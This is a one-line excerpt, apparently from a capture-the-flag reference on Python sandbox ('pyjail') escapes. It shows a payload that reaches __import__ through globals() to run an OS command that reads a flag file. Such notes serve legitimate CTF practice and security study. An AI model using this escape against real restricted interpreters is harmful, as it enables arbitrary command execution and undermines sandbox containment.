# Source: https://github.com/kiwamizamurai/cctf/blob/main/.claude/skills/pyjail/reference/bypass.md (pyjail bypass techniques) (using globals/locals)
globals()["__builtins__"]["__import__"]("os").system("cat flag")
